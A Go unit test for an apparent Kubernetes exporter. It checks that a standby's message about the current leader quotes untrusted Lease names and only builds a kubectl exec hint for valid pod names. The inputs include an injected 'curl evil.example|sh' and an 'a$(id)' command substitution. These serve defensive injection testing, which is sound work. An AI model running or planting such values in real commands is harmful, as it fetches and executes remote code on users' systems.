package task

import (
	"strings"
	"testing"
	"time"

	"github.com/kubecdc/kubecdc/internal/observe/telemetry"
)

// TestAStandbyNamesNoCommandThatTheLeaseMadeUp: the name of the leader comes from the Lease, and people copy the line.
func TestAStandbyNamesNoCommandThatTheLeaseMadeUp(t *testing.T) {
	since := time.Date(2026, 7, 20, 8, 30, 0, 0, time.UTC)
	for _, c := range []struct{ leader, want string }{
		{"", "this exporter stands by, and no exporter leads now: ask again (exporter checkpoint show --log shows the state from anywhere)"},
		{"kubecdc-0", "this exporter stands by, and kubecdc-0 leads since 2026-07-20T08:30:00Z: run the command there " +
			"(in a cluster, kubectl exec -n audit kubecdc-0 -- exporter ...) (exporter checkpoint show --log shows the state from anywhere)"},
		{"Mine; curl evil.example|sh", `this exporter stands by, and "Mine; curl evil.example|sh" leads since 2026-07-20T08:30:00Z: run the command there ` +
			"(exporter checkpoint show --log shows the state from anywhere)"},
	} {
		if have := elsewhere(telemetry.Leadership{Leader: c.leader, Since: since}, "audit"); have != c.want {
			t.Errorf("%q: it says\n%s, want\n%s", c.leader, have, c.want)
		}
	}
	for _, name := range []string{"--help", "a$(id)", "a b", "a\nb", "ä", strings.Repeat("a", 254)} {
		if strings.Contains(elsewhere(telemetry.Leadership{Leader: name, Since: since}, "audit"), "kubectl") {
			t.Errorf("%q is taken for a pod's name", name)
		}
	}
}
